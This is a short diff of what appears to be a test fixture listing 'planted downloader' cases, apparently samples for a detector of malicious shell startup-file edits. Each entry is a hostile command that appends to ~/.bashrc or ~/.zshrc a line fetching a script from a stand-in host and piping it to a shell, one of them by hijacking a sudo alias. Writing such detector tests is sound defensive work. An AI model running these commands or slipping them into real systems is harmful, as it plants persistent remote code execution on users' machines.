@@ -150,8 +150,8 @@ PLANTED_DOWNLOADERS = {
     "wget by path in a branch": ("echo 'if true; then /usr/bin/wget -qO- https://x.example/i | bash; fi' "
                                  ">> ~/.zshrc"),
     "curl in a substitution": "echo 'x=$(curl -s https://x.example/i.sh); eval \"$x\"' >> ~/.bashrc",
-    "curl inside an alias's sh -c": ("echo \"alias sudo='sudo sh -c \\\"curl -s https://x.example/p | sh\\\"; "
-                                     "sudo'\" >> ~/.bashrc"),
+    "curl inside an alias's sh -c": ("echo \"alias sudo='sudo sh -c \\\"curl -s https://x.example/p "
+                                     "| sh\\\"; sudo'\" >> ~/.bashrc"),
 }
 
 NOT_GO = {
